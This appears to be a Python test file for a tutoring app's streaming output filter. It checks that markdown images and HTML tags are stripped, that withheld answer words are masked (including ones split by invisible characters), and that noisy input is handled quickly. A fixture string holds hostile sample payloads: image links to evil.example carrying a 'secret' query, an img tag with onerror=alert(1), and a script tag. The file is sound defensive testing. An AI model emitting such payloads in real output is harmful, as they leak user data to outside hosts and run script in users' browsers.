from __future__ import annotations

import time
from functools import partial

import pytest
from hypothesis import given
from hypothesis import strategies as st

from studyteddy.domain.tutor.citations import check_citations
from studyteddy.domain.tutor.hints import masked
from studyteddy.domain.tutor.output import OutputFilter
from tutoring import passage, terms


def shown(text: str, sizes: list[int], output: OutputFilter) -> str:
    """What is shown of a text that comes in pieces of these sizes."""
    pieces, start = [], 0
    for size in [*sizes, len(text)]:
        pieces.append(output.push(text[start : start + size]))
        start += size
    return "".join([*pieces, output.finish()])


HOSTILE = (
    "Look ![the answer](https://evil.example/?q=secret text) and ![b][ref] then <img src='https://evil.example/x' "
    "onerror=alert(1)> or <SCRIPT>x</SCRIPT> with KEY123 and pigment, Pigments! Done [1]."
)


@given(st.lists(st.integers(min_value=0, max_value=12), max_size=60))
def test_however_the_pieces_break_the_same_is_shown(sizes: list[int]) -> None:
    def output() -> OutputFilter:
        return OutputFilter(fence="KEY123", veil=partial(masked, withheld=("pigment",), terms=terms))

    in_one = shown(HOSTILE, [], output())
    assert shown(HOSTILE, sizes, output()) == in_one
    assert in_one == "Look the answer and b then  or x with  and ____, ____! Done [1]."


@given(st.text(max_size=200), st.lists(st.integers(min_value=1, max_value=20), max_size=20))
def test_nothing_ever_shows_an_image_or_a_tag_that_fetches(text: str, sizes: list[int]) -> None:
    said = shown(f"{text}![x](http://evil.example/){text} <img src=x>", sizes, OutputFilter())

    assert "![x](" not in said
    assert "<img" not in said


@pytest.mark.parametrize(
    "text",
    [
        "if a < b then c > d",
        "for i in range(3): print(i)",
        "Wow! [1]",
        "a [link](https://example.org)",
        "2 < 3 <4",
        "**bold** _x_",
    ],
)
def test_ordinary_text_passes_unchanged(text: str) -> None:
    assert shown(text, [3, 4, 5], OutputFilter()) == text


def test_an_exclamation_mark_before_a_citation_does_not_make_an_image() -> None:
    assert shown("Wow![1] Great![2, 3]", [], OutputFilter()) == "Wow! [1] Great! [2, 3]"


def test_words_leave_as_soon_as_they_are_whole() -> None:
    output = OutputFilter()

    assert output.push("The gre") == "The "
    assert output.push("en pigment ") == "green pigment "


def test_text_without_spaces_leaves_at_its_punctuation() -> None:
    output = OutputFilter()

    assert output.push("光合作用，把光") == "光合作用，"
    assert output.push("变成能量。") == "把光变成能量。"


def test_an_image_that_is_never_closed_does_not_hold_the_answer_back_for_ever() -> None:
    output = OutputFilter()

    said = "".join(output.push("![x](http://evil.example/ and so on ") for _ in range(200))

    assert len(said) > 1_000


def test_a_draft_that_is_said_word_for_word_is_not_veiled() -> None:
    draft = "Which word is missing? word"
    veil = partial(masked, withheld=("word",), terms=terms)

    assert shown(draft, [5, 6], OutputFilter(veil=veil, draft=draft)) == draft
    assert "word" not in shown("Well, the word is word", [5, 6], OutputFilter(veil=veil, draft=draft))


@pytest.mark.parametrize("noise", ["![", "<img ", "[1]", "`a``", '"a ', "[1](", "\u201ca", " ", "<", "!"])
def test_noise_costs_little_time(noise: str) -> None:
    text = noise * (50_000 // len(noise))

    began = time.monotonic()
    shown(text, [7] * (len(text) // 7), OutputFilter())
    check_citations(text, [passage(), passage(text[:900] + "x")])

    assert time.monotonic() - began < 5


def test_invisible_characters_cannot_hide_a_withheld_word() -> None:
    output = OutputFilter(veil=partial(masked, withheld=("pigment",), terms=terms))

    assert shown("pig\u00adment pig\u200bment", [], output) == "____ ____"
